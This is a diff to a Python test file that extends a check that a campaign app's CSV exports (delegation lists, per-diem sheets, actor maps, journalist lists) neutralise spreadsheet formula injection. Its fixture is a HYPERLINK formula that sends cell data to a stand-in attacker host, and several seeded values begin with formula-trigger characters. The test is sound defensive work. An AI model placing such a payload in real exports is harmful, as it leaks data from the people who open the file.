@@ -2,14 +2,17 @@
 
 import csv
 import io
-from datetime import datetime, timedelta, timezone
+from datetime import date, datetime, timedelta, timezone
 
 from amplify import spreadsheets
 from amplify.campaigns.models import Campaign
 from amplify.consent import ledger
-from amplify.invitations.models import Event
+from amplify.actors.models import Actor, MapShare, Position, Relationship
+from amplify.actors.tokens import token_for
+from amplify.invitations.models import Event, Invitation
 from amplify.items.models import Item
 from amplify.people.models import Activist, Organization
+from amplify.press.models import Journalist
 from tests.test_reports import make_share, world  # noqa: F401 (a fixture)
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"ok")'
@@ -59,6 +62,30 @@ def test_no_csv_endpoint_writes_a_cell_that_runs_as_a_formula(app, world, factor
         "drafting.scheduler_csv": [f"/drafting/{campaign.slug}/exports/{s}-x.csv" for s in ("hootsuite", "sprout")],
         "drafting.generic": [f"/drafting/{campaign.slug}/exports/publications.csv"],
     }
+    hearing = Event.get(Event.title == "@Audiencia")
+    Event.update(per_diem_cents=5000, per_diem_currency="USD").where(Event.id == hearing.id).execute()
+    Invitation.update(passport_name=HOSTILE).where(Invitation.event == hearing.id).execute()
+    minister = Actor.create(campaign=campaign, kind="person", name=HOSTILE, role="-Ministra",
+                            position="active_opposition", influence="high", position_on=date(2026, 10, 1))
+    ministry = Actor.create(campaign=campaign, kind="institution", name="@Ministerio")
+    Position.create(actor=minister, position="active_opposition", influence="high", observed_on=date(2026, 10, 1),
+                    source="=1+1")
+    Relationship.create(campaign=campaign, from_actor=minister, to_actor=ministry, kind="works_for", source="+x")
+    with app.app_context():
+        map_token = token_for(MapShare.create(nonce="csv-map", campaign=campaign, language="es",
+                                              expires_at=datetime.now(timezone.utc) + timedelta(days=1)))
+    Journalist.create(name=HOSTILE, email="p@diario.example", email_key="p@diario.example", beat="-economía")
+    event_csv = f"/invitations/events/{hearing.id}"
+    urls.update({
+        "invitations.delegation_list_csv": [f"{event_csv}/delegation-list.csv",
+                                            f"{event_csv}/delegation-list.csv?version=passports"],
+        "invitations.per_diem_csv": [f"{event_csv}/per-diem.csv"],
+        "actors.spectrum_file": [f"/actors/campaigns/{campaign.slug}/spectrum.csv"],
+        "actors.moved_file": [f"/actors/campaigns/{campaign.slug}/moved.csv?since=2026-01-01&until=2026-11-01"],
+        "actors.neighbourhood_file": [f"/actors/{minister.id}/neighbourhood.csv"],
+        "actors.shared_spectrum": [f"/actors/shared/{map_token}/spectrum.csv"],
+        "press.export_list": ["/press/journalists/export.csv"],
+    })
     csv_routes = {rule.endpoint for rule in app.url_map.iter_rules() if rule.rule.endswith(".csv")}
     assert csv_routes == set(urls), "a CSV route is not covered by this test"
     fetches = [(url, ",") for group in urls.values() for url in group]
@@ -71,6 +98,7 @@ def test_no_csv_endpoint_writes_a_cell_that_runs_as_a_formula(app, world, factor
         assert not [c for c in found if spreadsheets.starts_like_formula(c)], url
         seen += found
     assert "'" + HOSTILE in seen and "'+Sindicato" in seen and "'@Audiencia" in seen
+    assert "'@Ministerio" in seen and "'-economía" in seen
     assert "'-5% de salario: " + HOSTILE in seen  # the spreadsheet file keeps it, disarmed
     scheduler = session.get(f"/drafting/{campaign.slug}/exports/hootsuite-x.csv").get_data(as_text=True)
     assert "HYPERLINK" not in scheduler and "Texto normal" in scheduler  # never altered: left out
